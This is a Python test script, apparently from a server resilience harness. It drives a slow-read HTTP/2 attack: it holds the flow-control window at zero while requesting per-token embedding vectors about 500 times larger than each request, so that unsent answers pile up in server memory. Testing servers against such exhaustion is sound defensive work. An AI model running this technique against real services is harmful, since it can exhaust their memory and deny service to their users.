"""Answers that nobody reads: SETTINGS_INITIAL_WINDOW_SIZE is 0 and no window is ever opened. Each call asks for
one vector per token, 500 times what it sent."""

from harness import CLASSIFY, ENCODE, MIB, QUESTION, Outcome, run
from http2 import Closed, Connection, field, message

CALLS = 24  # on each of the connections
CONNECTIONS = 3
POOLING_NONE, RAW_FLOAT32 = 1, 2


def token_vectors(sequences, tokens):
    """An EncodeRequest for one vector per token."""
    one = field(3, field(3, field(1, b"\x05" * tokens)))
    return one * sequences + field(5, POOLING_NONE) + field(7, RAW_FLOAT32)


def attack(target):
    request = message(token_vectors(2, 1024))
    connections = []
    closed = 0
    for _ in range(CONNECTIONS):
        connection = Connection(target.port, window=0, receive_buffer=4096)
        connections.append(connection)
        try:
            for call in range(CALLS):
                connection.pump()
                stream = connection.start(ENCODE if call % 4 else CLASSIFY)
                body = request if call % 4 else message(QUESTION)
                connection.send_body(stream, body, deadline=target.deadline)
                target.settled(0.02)  # it is the answers that are to be many, not the work
        except Closed:
            closed += 1
    target.settled(1)
    for connection in connections:
        try:
            connection.pump()
        except Closed:
            closed += 1
        connection.close()
    return Outcome("%d calls, %d of %d connections closed" % (CALLS * CONNECTIONS, closed, CONNECTIONS))


if __name__ == "__main__":
    run("unread answers", attack, budget_mib=96, seconds=3, flags=["--max_inflight_mb=96"])
